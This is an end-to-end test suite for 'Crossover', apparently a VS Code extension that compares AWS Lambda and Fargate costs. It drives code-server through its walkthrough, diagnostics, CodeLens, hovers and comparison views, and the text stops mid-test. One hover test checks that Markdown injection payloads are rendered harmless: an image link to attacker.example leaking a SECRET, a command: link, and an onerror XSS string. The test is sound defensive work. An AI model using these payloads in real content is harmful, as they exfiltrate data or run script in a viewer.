// The real-editor suite: VS Code (code-server) in Chromium, driven like a user would. Started by run.mjs.
// Every wait is on visible state (or the log file) with a timeout; tests run in order on one window.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse as parseYaml } from 'yaml';
import { ABSENT, byId, EXPECTED } from './expected.mjs';
import {
  closeActiveEditor,
  codeLensTexts,
  editorContextMenu,
  filterProblems,
  applyQuickFix,
  quickFixTitles,
  goTo,
  pickColorTheme,
  hoverAt,
  hoverText,
  holds,
  launch,
  listsFile,
  logs,
  openFile,
  openQuickInput,
  problemRows,
  replaceAt,
  runCommand,
  showProblems,
  squiggles,
  statusItem,
  waitFor,
  waitForFrameText,
  waitForLog,
  waitForProblem,
  compareFromLens,
} from './workbench.mjs';

const { E2E_URL: url, E2E_USER_DATA: userData, E2E_ARTIFACTS: artifacts, E2E_WORKSPACE: workspace } = process.env;

let session;
const shot = async (name) => {
  mkdirSync(artifacts, { recursive: true });
  await session.page.screenshot({ path: join(artifacts, `${name}.png`) });
};

describe('Crossover in a real VS Code', { concurrency: false }, () => {
  before(async () => {
    assert.ok(url && userData && artifacts && workspace, 'run through test/e2e/run.mjs');
    session = await launch(url);
  });

  after(async () => {
    if (session) await session.browser.close();
  });

  test('the walkthrough opens on a fresh profile with its four steps; opening a template completes the first', async () => {
    const { page } = session;
    // Not runCommand: the command's own picker follows in the same quick input, which never hides in between.
    const openWalkthrough = async () => {
      const input = await openQuickInput(page, 'F1');
      await input.fill('>Welcome: Open Walkthrough...');
      await page
        .locator('.quick-input-list .monaco-list-row')
        .filter({ has: page.locator('.label-name', { hasText: /^Welcome: Open Walkthrough\.\.\.$/ }) })
        .first()
        .click();
      await waitFor('the walkthrough picker', async () => /walkthrough/i.test((await input.getAttribute('placeholder')) ?? ''));
      await input.fill('Crossover');
      // The list may still be redrawing as walkthroughs register: wait for our row, then take it with Enter (the only
      // row the filter leaves) rather than clicking a row that moves.
      await page.locator('.quick-input-list .monaco-list-row', { hasText: 'Get started with Crossover' }).first().waitFor({ state: 'attached', timeout: 30_000 });
      await input.press('Enter');
      await page.locator('.tab', { hasText: 'Walkthrough: Crossover' }).first().waitFor({ state: 'visible', timeout: 15_000 });
    };
    await openWalkthrough();
    const steps = page.locator('.gettingStartedContainer button.getting-started-step');
    await waitFor('the four steps of the walkthrough', async () => (await steps.count()) === 4);
    const titles = await page.locator('.gettingStartedContainer .getting-started-step h3.step-title').allInnerTexts();
    assert.deepEqual(
      titles.map((t) => t.trim()),
      ['Open a template', 'Read a finding', 'Set your traffic', 'Compare Lambda and Fargate'],
    );
    const openStep = page.locator('.gettingStartedContainer button.getting-started-step[data-step-id$="#openTemplate"]');
    assert.equal(await openStep.getAttribute('aria-checked'), 'false', 'not done before a template is open');
    // The first step's media (Markdown, in its own frame) shows.
    await waitForFrameText(page, 'Crossover reads what you already have');
    await shot('02-walkthrough');
    // Opening a template with workloads sets crossover.hasWorkloads: the step's completion event.
    // (Not cost/template.yaml: a later test reads its first CodeLens, which VS Code would show from its cache.)
    await openFile(page, 'api/template.yaml');
    await waitFor('the cost CodeLens (the template is analysed)', async () => (await codeLensTexts(page)).some((t) => /on Lambda/.test(t)));
    // The walkthrough opened as a preview, which the template replaced: open it again.
    await openWalkthrough();
    await waitFor('the first step checked', async () => (await openStep.getAttribute('aria-checked')) === 'true');
    await runCommand(page, 'View: Close All Editors');
  });

  test('the editor context menu has Crossover entries in files with workloads only', async () => {
    const { page } = session;
    const ours = ['Compare with Fargate', 'Compare with Lambda', 'Show Cost Change Against HEAD'];
    const crossoverEntries = async () => (await editorContextMenu(page)).filter((label) => ours.includes(label));
    // Until the file is analysed the key is unset: wait for the entries, not for any menu.
    const withCompare = async () => {
      const entries = await crossoverEntries();
      return entries.includes('Compare with Fargate') && entries;
    };
    await openFile(page, 'api/template.yaml');
    assert.ok((await waitFor('Crossover entries in a template', withCompare)).includes('Compare with Fargate'));
    // YAML, JSON and TypeScript with nothing to cost: none (the key follows the active editor).
    for (const file of ['plain/config.yaml', 'plain/data.json', 'plain/util.ts']) {
      await openFile(page, file);
      await waitFor(`no Crossover entry in ${file}`, async () => (await crossoverEntries()).length === 0);
    }
    await editorContextMenu(page, { whileOpen: () => shot('03-context-menu-plain') });
    // A CDK app in TypeScript has workloads: the entries are back.
    await openFile(page, 'cdk/lib/reports-stack.ts');
    assert.ok((await waitFor('Crossover entries in a CDK app', withCompare)).includes('Compare with Fargate'));
    await runCommand(page, 'View: Close All Editors');
  });

  test('the workspace scan lists templates that are not open, on the right lines, with related information', async () => {
    const { page } = session;
    await showProblems(page);
    for (const expectation of EXPECTED) await waitForProblem(page, expectation, { timeout: 60_000 });
    await filterProblems(page, '');
    await shot('01-problems-after-scan');
  });

  test('excluded folders, files.exclude and files that are not templates are left alone', async () => {
    const { page } = session;
    await waitForLog(userData, /Workspace scan done in/, { timeout: 60_000 });
    await filterProblems(page, '');
    const rows = await problemRows(page);
    for (const absent of ABSENT) assert.ok(!listsFile(rows, absent), `${absent.folder}/${absent.file} must not be listed: ${absent.why}`);
    await waitFor('the status bar totals', async () => /Crossover: \d+/.test((await statusItem(page).textContent()) ?? ''));
  });

  test('the scenarios show squiggles in the editor', async () => {
    for (const expectation of EXPECTED.filter((e) => e.squiggle)) {
      await openFile(session.page, `${expectation.folder}/${expectation.file}`);
      await waitFor(
        `a ${expectation.severity} squiggle in ${expectation.folder}/${expectation.file}`,
        async () => (await squiggles(session.page, expectation.severity)) > 0,
      );
      await shot(`02-squiggle-${expectation.id}`);
    }
  });

  test('editing a value makes the diagnostic go, undo brings it back, closing keeps it listed', async () => {
    const { page } = session;
    const timeout = byId('timeout');
    await openFile(page, 'limits/template.yaml');
    await waitFor('the error squiggle on Timeout: 1200', async () => (await squiggles(page, 'error')) === 1);
    await replaceAt(page, 13, 16, 4, '300');
    await waitFor('the error squiggle to go after typing 300', async () => (await squiggles(page, 'error')) === 0);
    await waitForProblem(page, timeout, { absent: true });
    await shot('03-edited-timeout-300');
    await goTo(page, 13, 16); // focus is in the Problems filter: back to the editor, then undo
    await page.keyboard.press('Control+Z');
    await waitFor('the error squiggle to come back after undo', async () => (await squiggles(page, 'error')) === 1);
    await waitForProblem(page, timeout);
    // Undone to the saved text: the editor is clean, and closing it keeps the file in the Problems panel.
    await goTo(page, 1, 1);
    await closeActiveEditor(page);
    await waitFor(
      'the limits editor to close',
      async () => (await page.locator('.tab[data-resource-name="template.yaml"].active', { hasText: 'limits' }).count()) === 0,
    );
    await waitForProblem(page, timeout);
  });

  test('closing an edited template without saving shows it as it is on disk again', async () => {
    const { page } = session;
    const queue = byId('queue');
    await openFile(page, 'queue/template.yaml');
    await replaceAt(page, 9, 26, 2, '600'); // VisibilityTimeout: 60 -> 600 (above 6 x 30 s)
    await waitForProblem(page, queue, { absent: true });
    await goTo(page, 9, 1);
    await closeActiveEditor(page, { dontSave: true });
    await waitForProblem(page, queue);
    await shot('04-closed-without-saving');
  });

  test('fixing a misspelt tag makes the unknown-tag warning go', async () => {
    const { page } = session;
    await openFile(page, 'broken/unknown-tag.yaml');
    await waitFor('the unknown-tag squiggle', async () => (await squiggles(page, 'warning')) === 1);
    await replaceAt(page, 14, 16, 5, '!Ref');
    await waitForProblem(page, byId('tag'), { absent: true });
    await waitFor('no warning squiggle after the fix', async () => (await squiggles(page, 'warning')) === 0);
    await shot('05-fixed-tag');
    await goTo(page, 14, 1);
    await closeActiveEditor(page, { dontSave: true });
    await waitForProblem(page, byId('tag')); // the file on disk still has !Reff
  });

  test('changing a setting analyses again: a rule set to info, then back to its default', async () => {
    const { page } = session;
    const settingsFile = join(workspace, '.vscode', 'settings.json');
    const original = readFileSync(settingsFile, 'utf8');
    const timeout = byId('timeout');
    try {
      writeFileSync(settingsFile, JSON.stringify({ ...JSON.parse(original), 'crossover.rules': { 'lambda/timeout-max': 'info' } }, null, 2));
      await waitForProblem(page, { ...timeout, severity: 'info' });
      await waitForProblem(page, { ...byId('globals'), severity: 'info', related: undefined });
      await shot('06-rule-set-to-info');
    } finally {
      writeFileSync(settingsFile, original);
    }
    await waitForProblem(page, timeout);
  });

  test('the file watchers list templates created on disk (in an existing folder, and in a new folder at once), and drop them when deleted', async () => {
    const { page } = session;
    const template = (name) =>
      `AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  ${name}:\n    Type: AWS::Lambda::Function\n    Properties:\n` +
      '      Runtime: python3.13\n      Handler: app.handler\n      Timeout: 2000\n';
    const inExisting = { folder: 'queue', file: 'second.template.yaml', line: 8, severity: 'error', ruleId: 'lambda/timeout-max', message: 'Timeout 2,000 s' };
    writeFileSync(join(workspace, inExisting.folder, inExisting.file), template('SecondFunction'));
    await waitForProblem(page, inExisting);
    // A folder that arrives with its files (sam init, a checkout): VS Code reports only the folder.
    const inNew = { folder: 'watched', file: 'template.yaml', line: 8, severity: 'error', ruleId: 'lambda/timeout-max', message: 'Timeout 2,000 s' };
    mkdirSync(join(workspace, inNew.folder));
    writeFileSync(join(workspace, inNew.folder, inNew.file), template('WatchedFunction'));
    await waitForProblem(page, inNew);
    rmSync(join(workspace, inExisting.folder, inExisting.file));
    await waitForProblem(page, inExisting, { absent: true });
    rmSync(join(workspace, inNew.folder), { recursive: true });
    await waitForProblem(page, inNew, { absent: true });
  });

  test('commands: rescan shows progress in the status bar, clicking it cancels, Show Output opens the log', async () => {
    const { page } = session;
    const item = statusItem(page);
    const cancelledByUser = () => logs(userData).crossover.split('Workspace scan cancelled: by the user').length;
    const scansDone = () => logs(userData).crossover.split('Workspace scan done in').length;
    // A rescan of the 1,500 files takes a few seconds: if it ends before the click lands, scan again.
    for (let attempt = 1; ; attempt++) {
      const [cancelledBefore, doneBefore] = [cancelledByUser(), scansDone()];
      await runCommand(page, 'Crossover: Rescan Workspace');
      await waitFor('"Crossover: scanning n/m" in the status bar', async () => /Crossover: scanning \d+\/\d+/.test((await item.textContent()) ?? ''), {
        timeout: 15_000,
      });
      if (attempt === 1) await shot('07-scanning');
      await item.click();
      const outcome = await waitFor('the scan to be cancelled (or to have ended first)', () =>
        cancelledByUser() > cancelledBefore ? 'cancelled' : scansDone() > doneBefore && 'done',
      );
      if (outcome === 'cancelled') break;
      assert.ok(attempt < 5, 'five rescans ended before a click on the status bar item could cancel them');
    }
    await waitFor('the status bar totals after the cancelled scan', async () => /Crossover: \d+$/.test(((await item.textContent()) ?? '').trim()));
    await runCommand(page, 'Crossover: Show Output');
    // The Output view shares the panel's filter box with the Problems view: clear what the suite typed there.
    await page
      .locator('.panel .output-view, .panel [id="workbench.panel.output"]')
      .first()
      .waitFor({ state: 'visible', timeout: 15_000 })
      .catch(() => undefined);
    // The visible one: the Problems view keeps its own (hidden) filter input in the DOM.
    const filter = page.locator('.panel .viewpane-filter input').filter({ visible: true }).first();
    await filter.waitFor({ state: 'visible', timeout: 15_000 });
    await filter.fill('');
    // Cleared again on each poll while it is not: the box can take the clear before the view has moved over.
    await waitFor('the Output filter to be empty', () => holds(filter, '')).catch(async (error) => {
      await shot('failed-output-filter');
      throw error;
    });
    // The output editor is virtualized (only the lines in view exist) and renders spaces as U+00A0 (hence \s).
    const output = page.locator('.panel .monaco-editor', { hasText: /\[info\]\s(Crossover|Workspace scan|Skipped|Settings)/ }).first();
    await output.waitFor({ state: 'visible', timeout: 15_000 }).catch(async (error) => {
      await shot('failed-output');
      throw error;
    });
    await shot('08-output');
  });

  test('cost: a CodeLens above the function and a hover on MemorySize, and both follow crossover.usage.yml', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    await runCommand(page, 'View: Hide Panel');
    await openFile(page, 'cost/template.yaml');
    const lens = async () => (await codeLensTexts(page)).find((t) => /on Lambda/.test(t));
    const before = await waitFor('the cost CodeLens above CatalogFunction', lens);
    // Lambda's figure with its front door's share (an HTTP API), then the cheapest of the platforms shown (the runner-up is in the hover).
    assert.match(before, /^\$[\d.,]+\/mo on Lambda \(\$[\d.,]+ API Gateway\)(, cheapest| · cheapest: [A-Z][\w ]+ \(\$[\d.,]+\/mo\))$/);
    assert.ok((await codeLensTexts(page)).includes('Compare'), 'a Compare lens next to it');
    // In a split editor (half of the window) the lens still shows "Compare" whole: its right edge is inside the text
    // area (left of the minimap) of each group.
    await runCommand(page, 'View: Split Editor Right');
    await waitFor('two editor groups', async () => (await page.locator('.editor-instance').count()) === 2);
    const fits = await waitFor('the lens in both groups', async () => {
      const all = await page.$$eval('.editor-instance', (editors) =>
        editors.map((editor) => {
          const box = editor.getBoundingClientRect();
          const minimap = editor.querySelector('.minimap');
          const limit = Math.min(box.right, minimap && minimap.getBoundingClientRect().width > 0 ? minimap.getBoundingClientRect().left : Infinity);
          const lens = [...editor.querySelectorAll('.codelens-decoration')].find((d) => /on Lambda/.test(d.textContent ?? ''));
          const compare = lens && [...lens.querySelectorAll('a')].find((a) => (a.textContent ?? '').trim() === 'Compare');
          const first = lens?.querySelector('a');
          return lens && compare && first
            ? {
                editor: Math.round(box.width),
                textArea: Math.round(limit - box.left),
                lensLeft: Math.round(first.getBoundingClientRect().left - box.left),
                lensWidth: Math.round(compare.getBoundingClientRect().right - first.getBoundingClientRect().left),
                compareRight: Math.round(compare.getBoundingClientRect().right - box.left),
              }
            : undefined;
        }),
      );
      return all.length === 2 && all.every(Boolean) && all;
    });
    console.log(`lens in a split editor: ${JSON.stringify(fits)}`);
    for (const fit of fits) assert.ok(fit.compareRight <= fit.textArea, `"Compare" ends at ${fit.compareRight} px, inside the ${fit.textArea} px text area`);
    await shot('03b-lens-split-editor');
    await runCommand(page, 'View: Close All Editor Groups');
    await openFile(page, 'cost/template.yaml');
    await waitFor('the cost CodeLens above CatalogFunction again', lens);
    const memoryHover = async (pattern) => {
      await hoverAt(page, 12, 19); // MemorySize: 512
      return waitFor(`a cost hover matching ${pattern}`, async () => {
        const text = await hoverText(page);
        return pattern.test(text) && text;
      });
    };
    const hoverBefore = await memoryHover(/Memory 512 MB.*10M requests\/month/);
    assert.match(hoverBefore, /about 0\.29 vCPU/);
    assert.match(hoverBefore, /Lambda.*\$[\d.,]+.*Fargate/);
    assert.match(hoverBefore, /ECS on EC2/);
    assert.match(hoverBefore, /EKS on Fargate/);
    assert.match(hoverBefore, /Cheapest: \*?\*?[A-Z]/);
    assert.match(hoverBefore, /Requests per month 10M \(usage file\)/);
    await shot('10-cost-lens-and-hover');
    await page.keyboard.press('Escape');

    // Ten times the traffic, written on disk as a teammate's change would arrive.
    const usageFile = join(workspace, 'crossover.usage.yml');
    writeFileSync(usageFile, readFileSync(usageFile, 'utf8').replace('requestsPerMonth: 10000000', 'requestsPerMonth: 100000000'));
    const after = await waitFor('the CodeLens to show the new figures', async () => {
      const text = await lens();
      return text && text !== before && text;
    });
    const dollars = (text) => [...text.matchAll(/\$([\d.,]+)/g)].map((m) => Number(m[1].replace(/,/g, '')));
    assert.ok(dollars(after)[0] > dollars(before)[0], `Lambda goes up with traffic: ${before} -> ${after}`);
    const hoverAfter = await memoryHover(/Memory 512 MB.*100M requests\/month/);
    assert.notEqual(hoverAfter, hoverBefore);
    await shot('11-cost-after-usage-edit');
    await page.keyboard.press('Escape');

    // Compare opens the comparison view: the same figures as the CodeLens, and edits change them live.
    const { view, frame, total } = await compareFromLens(page, 'CatalogFunction');
    const [lensLambda] = dollars(after);
    const viewLambda = await total('lambda-total');
    assert.ok(Math.abs(viewLambda - lensLambda) <= 1, `view Lambda ${viewLambda} vs lens ${lensLambda}`);
    // A column per platform shown by default; the lens's cheapest figures are the view's.
    const columns = { Fargate: 'fargate-total', 'ECS on EC2': 'ecs-ec2-total', 'EKS on Fargate': 'eks-fargate-total' };
    for (const id of Object.values(columns)) assert.ok((await total(id)) > 0, `a ${id} card`);
    for (const [, label, usd] of after.matchAll(/([A-Z][\w ]+?) \(\$([\d.,]+)\/mo\)/g)) {
      const viewUsd = await total(columns[label]);
      assert.ok(Math.abs(viewUsd - Number(usd.replace(/,/g, ''))) <= 1, `view ${label} ${viewUsd} vs lens ${usd}`);
    }
    assert.match(view, /Fargate is cheaper from about [\d.]+[kMB]? requests\/month/);
    assert.equal(await frame.locator('#requests').getAttribute('value'), '100000000', 'the usage file traffic in the Requests field');
    await shot('12-compare-view-dark');
    // App Runner takes no new customers: no switch for it until the user says the account already uses it.
    assert.equal(await frame.locator('#platform-app-runner').count(), 0, 'no App Runner switch for a new customer');
    assert.equal(await frame.locator('#app-runner-total').count(), 0);
    await frame.locator('#app-runner-customer').click();
    await waitFor('an App Runner column', async () => (await frame.locator('#app-runner-total').count()) > 0);
    assert.ok((await total('app-runner-total')) > 0, 'App Runner priced in us-east-1');
    assert.match(await frame.locator('body').innerText(), /closed to new customers since 2026-04-30/);
    await frame.locator('#app-runner-total').scrollIntoViewIfNeeded();
    await shot('12-compare-view-app-runner');
    await frame.locator('#app-runner-customer').click();
    await waitFor('the App Runner column gone again', async () => (await frame.locator('#app-runner-total').count()) === 0);
    // An edit in the view: a tenth of the traffic, typed into the Requests field.
    await frame.locator('#requests input').fill('10000000');
    await frame.locator('#requests input').press('Enter');
    await waitForFrameText(page, 'Lambda is cheaper at 10M requests/month');
    const editedLambda = await total('lambda-total');
    assert.ok(editedLambda < viewLambda / 5, `Lambda falls with a tenth of the traffic: ${viewLambda} -> ${editedLambda}`);
    // The light theme: the view follows it.
    await pickColorTheme(page, 'Light Modern');
    await waitFor('the light theme', async () => (await page.locator('.monaco-workbench.vs').count()) > 0);
    await waitForFrameText(page, 'Lambda is cheaper at 10M requests/month');
    await frame.evaluate('window.scrollTo(0, 0)');
    await shot('12-compare-view-light');
    await pickColorTheme(page, 'Dark Modern');
    await waitFor('the dark theme again', async () => (await page.locator('.monaco-workbench.vs-dark').count()) > 0);
    // The checklist with its evidence, the recommendation, cold starts, and the equivalent task definition.
    const full = await waitForFrameText(page, 'Decision checklist');
    assert.match(full, /Is the volume below the crossover\?/);
    assert.match(full, /Recommendation\s+Lambda: Lambda is cheaper at 10M requests\/month/);
    assert.match(full, /python3\.13: about \d+ ms of INIT/);
    await frame.locator('#checklist').scrollIntoViewIfNeeded();
    await shot('12-compare-view-checklist');
    // An evidence link opens its line in the template (the Timeout line of CatalogFunction).
    await frame.locator('#checklist a.evidence').first().click();
    await waitFor('the template at the Timeout line', async () =>
      /Ln 13,/.test(
        (await page
          .locator('.statusbar-item', { hasText: /Ln \d+, Col/ })
          .first()
          .textContent()) ?? '',
      ),
    );
    // "Save to usage file" writes the edited traffic for this function into crossover.usage.yml (then restored).
    const usageBefore = readFileSync(usageFile, 'utf8');
    await frame.locator('#save-usage').click();
    await waitFor('the usage file to hold the edited traffic', () => /CatalogFunction:\n\s+requestsPerMonth: 10000000\n/.test(readFileSync(usageFile, 'utf8')));
    assert.match(readFileSync(usageFile, 'utf8'), /^# Traffic/m, 'the file keeps its comments');
    writeFileSync(usageFile, usageBefore);
    await frame.locator('#open-equivalent').click();
    await waitFor(
      'the equivalent task definition in a new editor',
      async () => (await page.locator('.editor-instance .view-line', { hasText: 'AWS::ECS::TaskDefinition' }).count()) > 0,
    );
    // The equivalent is an untitled document with text: left open, the window's hot exit keeps it across the reload
    // below, and closing it later asks whether to save it (a modal dialog that takes every key after it).
    await runCommand(page, 'View: Revert and Close Editor');
    await waitFor(
      'the equivalent task definition closed',
      async () => (await page.locator('.editor-instance .view-line', { hasText: 'AWS::ECS::TaskDefinition' }).count()) === 0,
    );
    // After a window reload the view comes back with its workload.
    await runCommand(page, 'Developer: Reload Window');
    await page.waitForSelector('.monaco-workbench', { timeout: 90_000 });
    await page.locator('.tab', { hasText: 'Compare: CatalogFunction' }).first().waitFor({ state: 'visible', timeout: 30_000 });
    await page.locator('.tab', { hasText: 'Compare: CatalogFunction' }).first().click();
    await waitForFrameText(page, 'CatalogFunction: Lambda or Fargate?', { timeout: 60_000 });
    // From the palette, with the cursor inside a function: that function's comparison (here the ECS task: Compare with Lambda).
    await runCommand(page, 'View: Close All Editors');
    await openFile(page, 'ecs/taskdef.json');
    await goTo(page, 5, 5);
    await runCommand(page, 'Crossover: Compare with Lambda');
    await page.locator('.tab', { hasText: 'Compare: web' }).first().waitFor({ state: 'visible', timeout: 15_000 });
    const taskView = await waitForFrameText(page, 'web: Fargate or Lambda?');
    assert.match(taskView, /Equivalent configuration: web on Lambda/);
    // The workspace summary: every workload with both figures and the recommendation, sortable.
    await runCommand(page, 'Crossover: Show Workspace Cost Summary');
    // After the reload the scan runs again: the summary follows it until every workload is listed.
    const summary = await waitFor('the summary of the workspace', async () => {
      const text = await waitForFrameText(page, 'Workspace cost summary');
      return Number(/(\d+) workloads as written:/.exec(text)?.[1] ?? 0) >= 8 && text;
    }, { timeout: 60_000 });
    assert.match(summary, /CatalogFunction/);
    // What the workspace costs as written (each workload where its template puts it), split by platform; the savings apart.
    assert.match(summary, /\d+ workloads as written: \$[\d.,]+\/mo \([^)]*\bLambda \$[\d.,]+/);
    assert.match(summary, /\d+ workloads as written: \$[\d.,]+\/mo \([^)]*\bFargate \$[\d.,]+/);
    // The status bar says the same figure.
    const costItem = page.locator('.statusbar-item', { hasText: 'as written' }).first();
    const statusTotal = await waitFor('the as-written total in the status bar', async () => {
      const text = ((await costItem.textContent().catch(() => '')) ?? '').trim();
      return /\$[\d.,]+\/mo as written/.test(text) && text;
    });
    const asWrittenOf = (text) => /(\$[\d.,]+)\/mo as written|as written: (\$[\d.,]+)\/mo/.exec(text)?.slice(1).find(Boolean);
    assert.equal(asWrittenOf(statusTotal), asWrittenOf(summary), `the status bar (${statusTotal}) and the summary agree`);
    const summaryFrame = await waitFor('the summary frame', async () => {
      for (const f of page.frames())
        if (
          (await f
            .locator('#summary-table')
            .count()
            .catch(() => 0)) > 0
        )
          return f;
      return undefined;
    });
    const firstColumn = async () => summaryFrame.locator('#summary-table tbody tr td:first-child').allInnerTexts();
    await summaryFrame.locator('#sort-id').focus();
    await page.keyboard.press('Enter');
    const ascending = await firstColumn();
    assert.deepEqual(
      ascending,
      [...ascending].sort((a, b) => a.localeCompare(b)),
      'sorted by name with the keyboard',
    );
    assert.equal(await summaryFrame.locator('#sort-id').evaluate((b) => b.parentElement.getAttribute('aria-sort')), 'ascending');
    // One row per workload: ecs-ec2/'s WebService and the WebTask it runs are one row (the service's); ecs/'s task
    // definition, which no service runs, is its own; the EKS node group is a row at its own cost.
    assert.equal(ascending.filter((name) => name === 'WebService').length, 1, 'one row for the service');
    assert.ok(!ascending.includes('WebTask'), 'no second row for the task definition the service runs');
    assert.ok(ascending.includes('web'), 'the task definition no service runs has its row');
    assert.ok(ascending.includes('Nodes'), 'the node group has its row');
    await shot('12-workspace-summary');
    const csp = session.consoleErrors.filter((text) => /Content[- ]Security[- ]Policy|Refused to/i.test(text));
    assert.deepEqual(csp, [], 'no Content-Security-Policy violations');
    await runCommand(page, 'View: Close All Editors');
  });

  test('ECS: a CodeLens above the task definition, a hover on cpu that names the nearest Fargate size', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    await openFile(page, 'ecs/taskdef.json');
    const lens = await waitFor('the task CodeLens', async () => (await codeLensTexts(page)).find((t) => /on Fargate/.test(t)));
    assert.match(lens, /^about \$[\d.,]+\/mo on Fargate \(1 task\) · about \$[\d.,]+\/mo as Lambda/);
    await hoverAt(page, 5, 11); // "cpu": "1024"
    const hover = await waitFor('the task size hover', async () => {
      const text = await hoverText(page);
      return /Task size 1 vCPU \/ 1 GB/.test(text) && text;
    });
    assert.match(hover, /not a Fargate size.*the nearest is 1 vCPU \/ 2 GB/);
    assert.match(hover, /Fargate: \$[\d.,]+\/mo for 1 task/);
    await shot('13-taskdef-hover');
    await page.keyboard.press('Escape');
  });

  test('ECS on EC2: the task definition and service on a capacity provider lead with ECS on EC2 and its instances; a node group has its own cost', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    await openFile(page, 'ecs-ec2/template.yaml');
    const lenses = await waitFor('the ECS on EC2 CodeLenses', async () => {
      const texts = await codeLensTexts(page);
      return texts.filter((t) => /on ECS on EC2/.test(t)).length >= 2 && texts;
    });
    const ec2 = lenses.filter((t) => /on ECS on EC2/.test(t));
    for (const text of ec2)
      assert.match(text, /^about \$[\d.,]+\/mo on ECS on EC2 \(\d+ x m7g\.large\) · about \$[\d.,]+\/mo as Lambda \([^)]*\) · cheapest: /);
    // The node group's lens is text only (nothing to click): read the decorations, not their links, once its line is in view.
    await goTo(page, 50, 5);
    const nodes = await waitFor('the node group CodeLens', async () => {
      const decorations = await page.$$eval('.editor-instance .codelens-decoration', (els) => els.map((e) => e.innerText.replace(/\s+/g, ' ').trim()));
      return decorations.find((t) => /on EKS on EC2/.test(t));
    });
    assert.match(nodes ?? '', /^about \$[\d.,]+\/mo on EKS on EC2 \(3 x m7g\.large nodes\) · no Lambda comparison/);
    await shot('13-eks-nodegroup-lens');
    // An ECS Express Mode service: its lens and the hover on its size lead with Express Mode.
    await hoverAt(page, 65, 13); // Cpu: '512'
    const express = await waitFor('the Express service hover', async () => {
      const text = await hoverText(page);
      return /Task size 0\.5 vCPU \/ 1 GB/.test(text) && text;
    });
    assert.match(express, /Runs on ECS Express Mode today \(1 x 0\.5 vCPU \/ 1 GB task; AWS::ECS::ExpressGatewayService\)/);
    await page.keyboard.press('Escape');
    assert.ok((await codeLensTexts(page)).some((t) => /^about \$[\d.,]+\/mo on ECS Express Mode \(1 x 0\.5 vCPU \/ 1 GB task(, \$[\d.,]+ ALB)?\) · about \$[\d.,]+\/mo as Lambda/.test(t)));
    await hoverAt(page, 10, 13); // Cpu: '1024'
    const hover = await waitFor('the task size hover', async () => {
      const text = await hoverText(page);
      return /Task size 1 vCPU \/ 2 GB/.test(text) && text;
    });
    assert.match(hover, /Runs on ECS on EC2 today \(\d+ x m7g\.large; the EC2 capacity provider of WebService\)/);
    await shot('13-ecs-ec2-lens-and-hover');
    await page.keyboard.press('Escape');
  });

  test('a hover shows Markdown from the file as text: no image, no link, no HTML from function names or a ${file()} value', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    await openFile(page, 'markdown/serverless.yml');
    await waitFor('the cost CodeLens above the functions', async () => (await codeLensTexts(page)).find((t) => /on Lambda/.test(t)));
    await hoverAt(page, 10, 15); // memorySize: ${file(./values.json):memory}, inherited by both functions
    const text = await waitFor('the cost hover on memorySize', async () => {
      const shown = await hoverText(page);
      return /Memory 128 MB/.test(shown) && /inherited by 2 functions/.test(shown) && shown;
    });
    // What the file says is shown as written...
    assert.ok(text.includes('![x](https://attacker.example/?k=SECRET)'), text);
    assert.ok(text.includes('[y](command:workbench.action.terminal.new) <img src=x onerror=alert(1)>'), text);
    // (the ${file()} value is quoted up to 40 characters)
    assert.ok(text.includes('"![m](https://attacker.example/m.png?'), text);
    // ...and nothing in the hover's DOM was built from it: no image, no link but our own "Edit usage assumptions".
    const dom = await page
      .locator('.monaco-hover:not(.hidden)')
      .first()
      .evaluate((hover) => ({
        images: hover.querySelectorAll('img').length,
        links: [...hover.querySelectorAll('a')].map((a) => ({
          text: a.textContent.trim(),
          attributes: [...a.attributes].map((x) => `${x.name}=${x.value}`).join(' '),
        })),
      }));
    await shot('13-markdown-hover');
    await page.keyboard.press('Escape');
    assert.equal(dom.images, 0, 'no <img> in the hover');
    assert.ok(
      dom.links.some((l) => l.text === 'Edit usage assumptions'),
      JSON.stringify(dom.links),
    );
    const foreign = dom.links.filter(
      (l) => l.text !== 'Edit usage assumptions' && (/attacker|workbench\.action|onerror|SECRET/.test(l.attributes) || ['x', 'y', 'm', 'c'].includes(l.text)),
    );
    assert.deepEqual(foreign, [], 'no <a> whose target or label comes from the file');
  });

  test('CDK: a diagnostic, a hover and a CodeLens in a TypeScript CDK stack', async () => {
    const { page } = session;
    await runCommand(page, 'View: Close All Editors');
    // Listed by the workspace scan before the file is opened.
    await waitForProblem(page, {
      folder: 'lib',
      file: 'reports-stack.ts',
      line: 14,
      severity: 'error',
      ruleId: 'lambda/timeout-max',
      message: 'Timeout 1,200 s is above the Lambda maximum',
    });
    await openFile(page, 'cdk/lib/reports-stack.ts');
    // Two errors: the timeout (read from the source) and the ephemeral storage that only cdk.out knows (see below).
    await waitFor('the timeout error squiggle in the .ts file (and the synthesized one)', async () => (await squiggles(page, 'error')) === 2);
    const lens = await waitFor('the cost CodeLens above new lambda.Function', async () => (await codeLensTexts(page)).find((t) => /on Lambda/.test(t)));
    assert.match(lens, /^\$[\d.,]+\/mo on Lambda \(\$[\d.,]+–\$[\d.,]+(; \$[\d.,]+ (API Gateway|ALB))?\)(, cheapest$| · cheapest: )/);
    await hoverAt(page, 13, 19); // memorySize: 1024
    const hover = await waitFor('the cost hover on memorySize', async () => {
      const text = await hoverText(page);
      return /Memory 1,024 MB/.test(text) && text;
    });
    assert.match(hover, /about 0\.58 vCPU/);
    assert.match(hover, /Memory 1024 MB \(template\)/);
    await shot('14-cdk-typescript');
    await page.keyboard.press('Escape');

    // A construct class another file makes three times: its declaration shows the three instances and their sum; the
    // file that makes them shows each instance on its line.
    // Text-only lenses (nothing to click) are not links: read the whole decoration of each line ("Compare | x3 ...").
    const lensLines = () =>
      page.$$eval('.editor-instance .codelens-decoration', (els) => els.flatMap((e) => e.innerText.split('|').map((t) => t.replace(/\s+/g, ' ').trim())));
    await openFile(page, 'cdk/lib/orders-service.ts');
    const instances = await waitFor('the instances CodeLens on the class', async () => (await lensLines()).find((t) => /instances/.test(t)));
    assert.match(instances, /^x3 instances in cdk\/lib\/shop-stack\.ts \(Dev, Staging, Prod\): about \$[\d.,]+\/mo on Lambda in all$/);
